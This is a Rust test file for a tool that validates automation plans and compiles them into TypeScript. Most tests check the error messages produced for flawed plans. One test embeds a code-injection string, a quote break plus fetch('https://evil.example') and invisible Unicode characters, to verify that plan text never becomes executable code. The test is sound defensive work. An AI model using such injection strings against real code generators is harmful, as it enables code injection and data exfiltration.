//! Wrong plans: every error says what to write instead.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, missing_docs)]

mod fixture;

use fixture::{
    booking_event, booking_mail, bookings, call, condition, own_booking_event, plans, schedule, task_digest,
};
use linchpin_catalog::{Catalog, Mode};
use linchpin_function::{CallStep, Caller, EntityEvent, InputField, InputKind, Op, Plan, Repeat, Step, compile};
use serde_json::json;

/// The messages for a plan changed by `change`.
fn errors(plan: Plan, change: impl FnOnce(&mut Plan)) -> String {
    let mut plan = plan;
    change(&mut plan);
    let errors = plan.validate(&bookings(), Catalog::embedded()).unwrap_err();
    errors.iter().map(|error| format!("{error}\n")).collect()
}

fn step(plan: &mut Plan, change: impl FnOnce(&mut CallStep)) {
    let call = plan.steps.iter_mut().find_map(|step| match step {
        Step::Call(call) => Some(call),
        _ => None,
    });
    change(call.unwrap());
}

fn text(plan: &mut Plan, text: &str) {
    step(plan, |call| call.mail.as_mut().unwrap().text = text.into());
}

#[test]
fn the_plans_of_the_snapshots_are_sound() {
    for plan in plans() {
        assert_eq!(plan.validate(&bookings(), Catalog::embedded()), Ok(()), "{}", plan.name);
        let json = serde_json::to_string(&plan).unwrap();
        assert_eq!(serde_json::from_str::<Plan>(&json).unwrap(), plan);
    }
}

#[test]
fn names_that_do_not_exist() {
    insta::assert_snapshot!(
        "unknown_names",
        [
            errors(task_digest(), |plan| plan.connector = "gmial".into()),
            errors(task_digest(), |plan| step(plan, |call| call.operation =
                "messages.send".into())),
            errors(task_digest(), |plan| plan.steps.insert(
                0,
                Step::Read {
                    entity: "Taks".into(),
                    bind: "x".into(),
                    filter: vec![],
                    sort: None,
                    limit: None,
                }
            )),
            errors(booking_mail(), |plan| text(plan, "Hello {{booking.client_nam}}")),
            errors(booking_mail(), |plan| text(plan, "Hello {{bookin.client_name}}")),
            errors(booking_mail(), |plan| text(plan, "Hello {{booking}}")),
            errors(task_digest(), |plan| text(plan, "{{tasks.title}}, {{tasks}}")),
            errors(task_digest(), |plan| text(
                plan,
                "{{#each tasks}}{{item.title}}{{/each}}"
            )),
            errors(task_digest(), |plan| text(plan, "Hello {{user.full_name}}")),
            errors(own_booking_event(), |plan| plan.input[0].name = "id".into()),
            errors(booking_event(), |plan| plan.trigger = fixture::on(
                "Booking",
                &[EntityEvent::Update],
                vec![
                    condition("status", Op::Becomes, json!("confirmd")),
                    condition("staus", Op::Eq, json!("confirmed")),
                    condition("price", Op::In, json!(3)),
                ]
            )),
            errors(task_digest(), |plan| plan.steps[0] = Step::Read {
                entity: "Task".into(),
                bind: "tasks".into(),
                filter: vec![condition("status", Op::Changed, json!(null))],
                sort: Some("-due".into()),
                limit: Some(5000),
            }),
        ]
        .join("\n")
    );
}

#[test]
fn schedules_that_cannot_be_kept() {
    let daily = |at: &str, zone: &str| errors(task_digest(), |plan| plan.trigger = fixture::daily(at, zone));
    let repeat = |repeat| {
        errors(task_digest(), |plan| {
            plan.trigger = schedule(repeat, "08:00", "Europe/Berlin")
        })
    };
    insta::assert_snapshot!(
        "wrong_schedules",
        [
            daily("08:00", "Europe/Berln"),
            daily("08:00", "CEST"),
            daily("8:00", "Europe/Berlin"),
            daily("24:00", "Europe/Berlin"),
            daily("08:00", "Australia/Lord_Howe"),
            repeat(Repeat::Hourly { every: 5 }),
            repeat(Repeat::Monthly { day: 31 }),
            repeat(Repeat::Weekly { days: vec![] }),
        ]
        .join("\n")
    );
}

#[test]
fn whose_account_and_who_may_call() {
    insta::assert_snapshot!(
        "wrong_callers",
        [
            errors(task_digest(), |plan| plan.mode = Mode::AppUser),
            errors(booking_mail(), |plan| plan.mode = Mode::AppUser),
            errors(own_booking_event(), |plan| plan.caller = Caller::Anyone),
            errors(task_digest(), |plan| plan.caller = Caller::SignedIn),
            errors(booking_event(), |plan| plan.input = vec![InputField {
                name: "x".into(),
                kind: InputKind::Text,
                required: true,
                about: String::new(),
            }]),
            errors(fixture::events_to_mail(), |plan| {
                plan.caller = Caller::Anyone;
                plan.input = vec![InputField {
                    name: "to".into(),
                    kind: InputKind::Email,
                    required: true,
                    about: String::new(),
                }];
                plan.steps.truncate(2);
                plan.steps.push(booking_mail().steps.remove(0));
                if let Some(Step::Call(call)) = plan.steps.last_mut() {
                    let mail = call.mail.as_mut().unwrap();
                    (mail.to, mail.text, mail.subject) = (vec!["{{input.to}}".into()], "Hi".into(), "Hi".into());
                }
            }),
        ]
        .join("\n")
    );
}

#[test]
fn calls_that_the_vendor_would_refuse() {
    insta::assert_snapshot!(
        "wrong_calls",
        [
            errors(fixture::invoice_row(), |plan| step(plan, |call| {
                call.path.remove("spreadsheetId");
            })),
            errors(fixture::invoice_row(), |plan| step(plan, |call| {
                call.query.insert("valueInput".into(), "RAW".into());
            })),
            errors(fixture::invoice_row(), |plan| step(plan, |call| call.body = None)),
            errors(booking_event(), |plan| step(plan, |call| {
                call.body.as_mut().unwrap().as_object_mut().unwrap().remove("summary");
            })),
            errors(fixture::slack_post(), |plan| step(plan, |call| call.mail =
                booking_mail_body())),
            errors(booking_mail(), |plan| step(plan, |call| call.mail = None)),
            errors(booking_mail(), |plan| step(plan, |call| call
                .mail
                .as_mut()
                .unwrap()
                .to = vec![])),
            errors(booking_mail(), |plan| step(plan, |call| call
                .mail
                .as_mut()
                .unwrap()
                .to = vec![
                "the client".into(),
                "{{booking.price}}".into(),
                "{{booking.client_email}}, x@y.example".into()
            ])),
            errors(booking_mail(), |plan| text(
                plan,
                "{{booking.start | date('Mars')}} {{booking.price | date}} {{booking.client_name | money}}"
            )),
            errors(booking_mail(), |plan| text(plan, "{{booking.price | money('euro')}}")),
            errors(booking_mail(), |plan| text(plan, "Hello {{booking.client_name")),
        ]
        .join("\n")
    );
}

fn booking_mail_body() -> Option<linchpin_function::Mail> {
    match booking_mail().steps.remove(0) {
        Step::Call(call) => call.mail,
        _ => None,
    }
}

#[test]
fn steps_that_make_no_sense() {
    insta::assert_snapshot!(
        "wrong_steps",
        [
            errors(booking_event(), |plan| {
                step(plan, |call| call.unless = None);
                plan.trigger = fixture::on("Booking", &[EntityEvent::Update], vec![]);
            }),
            errors(booking_event(), |plan| plan.trigger =
                fixture::on("Booking", &[EntityEvent::Create, EntityEvent::Delete], vec![])),
            errors(booking_event(), |plan| step(plan, |call| call.unless =
                Some("booking['x']".into()))),
            errors(booking_event(), |plan| step(plan, |call| call.bind =
                Some("booking".into()))),
            errors(task_digest(), |plan| plan.steps.push(Step::Each {
                over: "tasks".into(),
                bind: "task".into(),
                steps: vec![Step::Each {
                    over: "tasks".into(),
                    bind: "inner".into(),
                    steps: vec![]
                }],
            })),
            errors(task_digest(), |plan| plan.steps.push(Step::Write {
                entity: "Task".into(),
                record: "tasks".into(),
                set: [].into()
            })),
            errors(task_digest(), |plan| plan.steps = vec![]),
            errors(task_digest(), |plan| plan.name = "mail digest".into()),
            errors(task_digest(), |plan| plan.steps.push(call(
                "gmail.users.labels.list",
                CallStep {
                    bind: Some("now".into()),
                    ..CallStep::default()
                }
            ))),
        ]
        .join("\n")
    );
}

#[test]
fn names_of_the_language_are_kept_out_of_the_way() {
    use linchpin_app::{App, Kind};
    let named = |name: &str| linchpin_app::Entity {
        name: name.into(),
        fields: vec![fixture::field("title", Kind::String)],
        ..Default::default()
    };
    let app = App {
        entities: ["Call", "Event", "User", "Payload", "Class", "Request"]
            .map(named)
            .to_vec(),
        ..bookings()
    };
    for name in ["call", "user", "payload", "class", "request"] {
        let entity = app
            .entities
            .iter()
            .find(|entity| entity.name.eq_ignore_ascii_case(name))
            .unwrap()
            .name
            .clone();
        let plan = Plan {
            trigger: fixture::on(&entity, &[EntityEvent::Create], vec![]),
            steps: vec![call(
                "chat.postMessage",
                CallStep {
                    body: Some(json!({ "channel": "#x", "text": format!("{{{{{name}.title}}}}") })),
                    ..CallStep::default()
                },
            )],
            ..fixture::slack_post()
        };
        let source = compile(&plan, &app, Catalog::embedded())
            .unwrap_or_else(|error| panic!("{name}: {error}"))
            .source;
        let variable = if name == "request" {
            "request".to_owned()
        } else {
            format!("{name}Record")
        };
        assert!(
            source.contains(&format!(
                "const {variable} = await base44.asServiceRole.entities.{entity}.get(id)"
            )),
            "{source}"
        );
        assert!(
            source.contains(&format!("escapeMarkup({variable}.title ?? \"\")")),
            "{source}"
        );
    }
}

#[test]
fn nothing_of_a_plan_becomes_code() {
    let hostile = "\"; fetch('https://evil.example'); //` ${base44} \u{202e}\u{200b} \\";
    let mut plan = booking_mail();
    plan.purpose = format!("Mails.\n*/ {hostile}");
    step(&mut plan, |call| {
        let mail = call.mail.as_mut().unwrap();
        mail.subject = format!(
            "{hostile} {{{{booking.notes | default('{}')}}}}",
            hostile.replace('\\', "\\\\").replace('\'', "\\'")
        );
        mail.text = format!("{hostile}\n{{{{booking.client_name}}}} {hostile}");
    });
    let draft = compile(&plan, &bookings(), Catalog::embedded()).unwrap();
    assert!(!draft.source.contains(['\u{202e}', '\u{200b}']));
    let proof =
        linchpin_function::prove::prove(&draft.source, "entry.ts", Catalog::embedded(), &Default::default()).unwrap();
    let hosts: Vec<&str> = proof.calls.iter().map(|call| call.host.as_str()).collect();
    assert_eq!(hosts, ["gmail.googleapis.com"]);
    assert_eq!(proof.unresolved, []);
    insta::assert_snapshot!(
        "hostile_text",
        draft
            .source
            .lines()
            .filter(|line| line.contains("evil"))
            .collect::<Vec<_>>()
            .join("\n")
    );
}

#[test]
fn compiling_twice_gives_the_same_bytes() {
    for plan in plans() {
        let again = |plan: &Plan| compile(plan, &bookings(), Catalog::embedded()).unwrap();
        assert_eq!(again(&plan), again(&plan));
    }
}
